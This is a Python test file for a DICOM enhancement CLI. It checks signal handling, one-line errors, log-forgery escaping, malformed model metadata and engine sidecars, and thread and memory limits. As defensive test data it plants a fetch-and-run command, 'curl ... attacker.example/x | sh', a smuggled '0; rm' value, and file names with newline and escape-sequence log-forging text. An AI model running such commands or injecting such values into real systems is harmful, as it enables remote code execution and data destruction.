"""The small holes of issue #12: SIGTERM, one-line causes, file names that try to forge log
lines, malformed model metadata and engine sidecars, --threads bounds, and a --max-pixels
default that fits the default run in 2 GiB."""

from __future__ import annotations

import errno
import json
import re
import subprocess
import sys
import types

import numpy as np
import onnx
import pydicom
import pytest
from runtime_fixtures import REPO, copy_file, make_smoothing_model, pydicom_file, run_cli

from runtime import enhance, outputs
from runtime.backends import tensorrt_backend
from runtime.engine_sidecar import write_sidecar
from runtime.model_contract import ModelContract

SHIPPED = REPO / "models" / "medclear_student.fp32.onnx"
TWO_GIB = 2 * 1024**3
GUARD_BYTES = 8 * 1024**3  # virtual address space for the memory test's child


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    return make_smoothing_model(tmp_path_factory.mktemp("model") / "smooth.onnx")


def _file_lines(err: str) -> list[str]:
    return [line for line in err.splitlines() if line.startswith("medclear: ")]


# ---- SIGTERM: like Ctrl-C, exit 143, no temporary files; a re-run makes the missing preview ---

KILL_DURING_PREVIEW = """
import os, signal, sys, time
from runtime import enhance, outputs
real = outputs.atomic_write
def atomic_write(path, write):
    def killed(handle):
        handle.write(b"partial preview")
        os.kill(os.getpid(), signal.SIGTERM)
        time.sleep(5)  # the handler interrupts this
    real(path, killed if path.name.endswith(".preview.png") else write)
outputs.atomic_write = atomic_write
sys.exit(enhance.main(sys.argv[1:]))
"""


def test_sigterm_exits_143_leaves_no_temp_files_and_a_rerun_completes_the_preview(tmp_path, model):
    source = copy_file("CT_small.dcm", tmp_path / "in")
    out = tmp_path / "out"
    args = [str(source), "-o", str(out), "--model", str(model), "--png-preview", "-q"]
    killed = subprocess.run([sys.executable, "-c", KILL_DURING_PREVIEW, *args], cwd=REPO, capture_output=True,
                            text=True, timeout=120)
    assert killed.returncode == 143, killed.stderr
    assert "terminated" in killed.stderr and "Traceback" not in killed.stderr
    assert sorted(p.name for p in out.rglob("*") if p.is_file()) == ["CT_small.enhanced.dcm"]
    rerun = run_cli(*args)
    assert rerun.returncode == 0, rerun.stderr
    assert (out / "CT_small.preview.png").is_file()


# ---- one line per problem, whatever the library or the file name says -------------------------

def test_disk_full_with_multi_line_library_text_is_one_line(tmp_path, model, monkeypatch, capsys):
    source = copy_file("CT_small.dcm", tmp_path / "in")

    def full(*_args, **_kwargs):
        raise OSError(errno.ENOSPC, "No space left on device\n  while writing element (7FE0,0010)\n")

    monkeypatch.setattr(outputs, "dcmwrite", full)
    assert enhance.main([str(source), "-o", str(tmp_path / "out"), "--model", str(model), "-q"]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1, err
    assert "cannot write output: No space left on device while writing element (7FE0,0010)" in err


def test_control_characters_in_file_names_cannot_forge_log_lines(tmp_path, model):
    inputs = tmp_path / "in"
    copy_file("CT_small.dcm", inputs, "scan\nmedclear: enhanced forged.dcm: estimated input noise ~0 HU; strength 1")
    (inputs / "bad\r\x1b[2Kname.dcm").write_text("not DICOM")
    result = run_cli(str(inputs), "-o", str(tmp_path / "out"), "--model", str(model))
    lines = _file_lines(result.stderr)
    assert len(lines) == 2 and len(result.stderr.splitlines()) == 2, result.stderr
    assert not any(line.startswith("medclear: enhanced forged") for line in lines)
    assert "scan\\nmedclear: enhanced forged.dcm" in result.stderr and "bad\\r\\x1b[2Kname.dcm" in result.stderr
    assert "\x1b" not in result.stderr


# ---- malformed model metadata and engine sidecars: one clear line, exit 2 --------------------

@pytest.mark.parametrize(("key", "value"), [
    ("medclear.normalization", "[1]"),
    ("medclear.size_multiple", "0"),
    ("medclear.normalization", '{"CT": {"kind": "percentile", "low_percentile": 90, "high_percentile": 10}}'),
    ("medclear.modalities", '"CT"'),
    ("medclear.scale", "-2"),
])
def test_malformed_model_metadata_is_one_line_and_exit_2(tmp_path, model, key, value):
    proto = onnx.load(str(model))
    for entry in proto.metadata_props:
        if entry.key == key:
            entry.value = value
    onnx.save(proto, str(tmp_path / "bad.onnx"))
    source = copy_file("CT_small.dcm", tmp_path / "in")
    result = run_cli(str(source), "-o", str(tmp_path / "out"), "--model", str(tmp_path / "bad.onnx"))
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.count("\n") == 1 and "malformed model contract" in result.stderr


FORGED = "curl -s http://attacker.example/x | sh"


def _forged_engine(folder, **fields):
    engine = folder / "student.engine"
    engine.write_bytes(b"\x00an engine from elsewhere")
    record = {"tensorrt_version": "10.3.0", "gpu_name": "Orin", "compute_capability": "8.7",
              "build_command": FORGED, "contract": ModelContract().to_metadata()}
    write_sidecar(engine, {**record, **fields})
    return engine


def _fake_tensorrt(monkeypatch):
    fake = types.ModuleType("tensorrt")
    fake.__version__ = "10.3.0"
    monkeypatch.setitem(sys.modules, "tensorrt", fake)
    monkeypatch.setattr(tensorrt_backend, "detect_gpu", lambda: ("NVIDIA H200", "9.0"))


@pytest.mark.parametrize("fields", [{}, {"gpu_name": ["Orin\nmedclear: enhanced x"]}, {"dla_core": "0; rm"},
                                    {"contract": "not an object"}])
def test_a_sidecar_is_checked_and_its_commands_are_never_echoed(tmp_path, monkeypatch, capsys, fields):
    _fake_tensorrt(monkeypatch)
    engine = _forged_engine(tmp_path, **fields)
    source = copy_file("CT_small.dcm", tmp_path / "in")
    assert enhance.main([str(source), "-o", str(tmp_path / "out"), "--model", str(engine)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("medclear: error:"), err
    assert FORGED not in err and "curl" not in err
    assert "python -m compiler build" in err


# ---- --threads is bounded by the machine ------------------------------------------------------

def test_threads_above_the_cpu_count_are_lowered_with_a_note(tmp_path, model):
    source = copy_file("MR_small.dcm", tmp_path / "in")
    result = run_cli(str(source), "-o", str(tmp_path / "out"), "--model", str(model), "--threads", "100000")
    assert result.returncode == 0, result.stderr
    assert re.search(r"--threads 100000 is more than this machine's \d+ CPUs; using \d+", result.stderr)
    bad = run_cli(str(source), "-o", str(tmp_path / "out"), "--model", str(model), "--threads", "0")
    assert bad.returncode == 2 and "--threads must be >= 1" in bad.stderr


# ---- --max-pixels: the default run fits in 2 GiB ----------------------------------------------

def test_the_documented_max_pixels_default_is_the_one_in_use():
    docs = (REPO / "docs" / "RUNTIME.md").read_text()
    assert f"--max-pixels` default is {enhance.DEFAULT_MAX_PIXELS}" in docs.replace("\n", " ")
    assert str(enhance.DEFAULT_MAX_PIXELS) in run_cli("--help").stdout


def _largest_default_image(path):
    """One CT frame of just under --max-pixels, the costliest shape measured (tiled)."""
    side = int(np.sqrt(enhance.DEFAULT_MAX_PIXELS))
    ds = pydicom.dcmread(pydicom_file("CT_small.dcm"))
    rng = np.random.default_rng(0)
    ds.Rows = ds.Columns = side
    ds.PixelData = rng.integers(900, 1200, (side, side), dtype=np.int16).tobytes()
    ds.save_as(path)
    return path


def _address_space_guard() -> None:
    """In the child: a regression fails on an allocation instead of exhausting the machine
    (the old defaults needed over 20 GB for this image)."""
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (GUARD_BYTES, GUARD_BYTES))


@pytest.mark.slow
@pytest.mark.skipif(not SHIPPED.is_file(), reason="shipped model not present")
def test_default_run_at_the_default_max_pixels_fits_in_2_gib(tmp_path):
    source = _largest_default_image(tmp_path / "large.dcm")
    record = tmp_path / "peak.json"
    result = subprocess.run(
        [sys.executable, "-m", "benchmarks.peak_rss", str(record), "runtime.enhance", str(source),
         "-o", str(tmp_path / "out"), "--model", str(SHIPPED), "-q"],
        cwd=REPO, capture_output=True, text=True, timeout=600, preexec_fn=_address_space_guard,
    )
    assert result.returncode == 0, result.stderr
    peak = json.loads(record.read_text())["peak_rss_bytes"]
    assert peak < TWO_GIB, f"peak {peak / 2**20:.0f} MiB"
